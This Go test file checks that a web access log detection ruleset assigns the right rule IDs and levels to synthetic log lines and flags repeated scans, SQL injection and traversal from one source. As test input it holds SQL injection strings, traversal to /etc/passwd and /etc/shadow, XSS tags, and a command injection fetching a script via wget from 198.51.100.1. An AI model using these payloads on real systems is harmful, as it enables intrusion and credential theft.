package ruleset_test

import "testing"

// access is a combined-format access log line from client ip.
func access(ip, method, url string, status int) string {
	return ip + ` - - [27/Nov/2026:10:00:00 +0000] "` + method + " " + url + ` HTTP/1.1" ` +
		itoa(status) + ` 153 "-" "Mozilla/5.0 (X11; Linux x86_64)"`
}

func itoa(n int) string {
	b := []byte{byte('0' + n/100), byte('0' + n/10%10), byte('0' + n%10)}
	return string(b)
}

func TestWebAccessLines(t *testing.T) {
	tests := []lineCase{
		{access("192.0.2.10", "GET", "/index.html", 200), "web-accesslog", 31100, 0,
			map[string]string{"srcip": "192.0.2.10", "protocol": "GET", "url": "/index.html", "id": "200"}},
		// Common log format (no referer, no user agent), IPv6 client, user name.
		{`2001:db8::5 - alice [27/Nov/2026:10:00:00 -0500] "POST /api/login HTTP/2.0" 401 17`, "web-accesslog", 31101, 5,
			map[string]string{"srcip": "2001:db8::5", "protocol": "POST", "url": "/api/login", "id": "401"}},
		{access("203.0.113.50", "GET", "/wp-login.php", 404), "web-accesslog", 31101, 5,
			map[string]string{"srcip": "203.0.113.50", "url": "/wp-login.php", "id": "404"}},
		{access("203.0.113.50", "GET", "/admin", 403), "web-accesslog", 31101, 5, map[string]string{"id": "403"}},
		{access("203.0.113.50", "GET", "/missing", 500), "web-accesslog", 31100, 0, map[string]string{"id": "500"}},
		// SQL injection.
		{access("203.0.113.51", "GET", "/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users", 200), "web-accesslog", 31103, 7,
			map[string]string{"srcip": "203.0.113.51", "url": "/item.php?id=1%20UNION%20SELECT%20password%20FROM%20users"}},
		{access("203.0.113.51", "GET", "/login?user=admin%27%20OR%20%271%27=%271", 500), "web-accesslog", 31103, 7, nil},
		{access("203.0.113.51", "GET", "/search?q=1+or+1=1", 200), "web-accesslog", 31103, 7, nil},
		{access("203.0.113.51", "GET", "/p?id=1;SELECT+SLEEP(5)", 404), "web-accesslog", 31103, 7, nil},
		// Path traversal and other common attacks.
		{access("203.0.113.52", "GET", "/download?file=../../../../etc/passwd", 400), "web-accesslog", 31104, 6,
			map[string]string{"url": "/download?file=../../../../etc/passwd", "id": "400"}},
		{access("203.0.113.52", "GET", "/static/..%2f..%2f..%2fetc/shadow", 404), "web-accesslog", 31104, 6, nil},
		{access("203.0.113.52", "GET", "/cgi-bin/%2e%2e/%2e%2e/bin/sh", 400), "web-accesslog", 31104, 6, nil},
		{access("203.0.113.52", "GET", "/page.php?f=php://filter/resource=index", 200), "web-accesslog", 31104, 6, nil},
		{access("203.0.113.52", "GET", "/a.php?cmd=wget%20http://198.51.100.1/x.sh", 200), "web-accesslog", 31104, 6, nil},
		// Cross-site scripting.
		{access("203.0.113.53", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200), "web-accesslog", 31105, 6, nil},
		{access("203.0.113.53", "GET", "/search?q=<script>x</script>", 200), "web-accesslog", 31105, 6, nil},
		// Harmless URLs that look close.
		{access("192.0.2.10", "GET", "/docs/selection.html", 200), "web-accesslog", 31100, 0, nil},
		{access("192.0.2.10", "GET", "/assets/app.js?v=2", 304), "web-accesslog", 31100, 0, nil},
		// A request line with a blank in the target is not decoded.
		{`203.0.113.54 - - [27/Nov/2026:10:00:00 +0000] "GET /a b HTTP/1.1" 400 0 "-" "-"`, "web-accesslog", 31100, 0,
			map[string]string{"url": "", "id": ""}},
		// A quote or status inside the target cannot move the fields.
		{access("203.0.113.55", "GET", `/x\x22%20200%20`, 404), "web-accesslog", 31101, 5,
			map[string]string{"srcip": "203.0.113.55", "id": "404"}},
	}
	checkLines(t, load(t, nil), tests)
}

func TestWebCorrelation(t *testing.T) {
	var scan, spread, sqli, trav []string
	for i := range 14 {
		scan = append(scan, access("203.0.113.50", "GET", "/probe"+itoa(i)+".php", 404))
		spread = append(spread, access("203.0.113."+itoa(i)[1:], "GET", "/probe.php", 404))
	}
	for i := range 8 {
		sqli = append(sqli, access("203.0.113.51", "GET", "/item.php?id="+itoa(i)+"%20union%20select%201", 200))
	}
	for i := range 10 {
		trav = append(trav, access("203.0.113.52", "GET", "/f?p=../../etc/passwd"+itoa(i), 404))
	}
	tests := []freqCase{
		{"404 scan one source", scan, 31151, "web-accesslog", "web_scan"},
		{"13 errors", scan[:13], 31101, "web-accesslog", ""},
		{"errors many sources", spread, 31101, "web-accesslog", ""},
		{"sql injection one source", sqli, 31152, "web-accesslog", "sql_injection"},
		{"traversal one source", trav, 31153, "web-accesslog", "attack"},
	}
	checkFrequency(t, load(t, nil), tests)
}
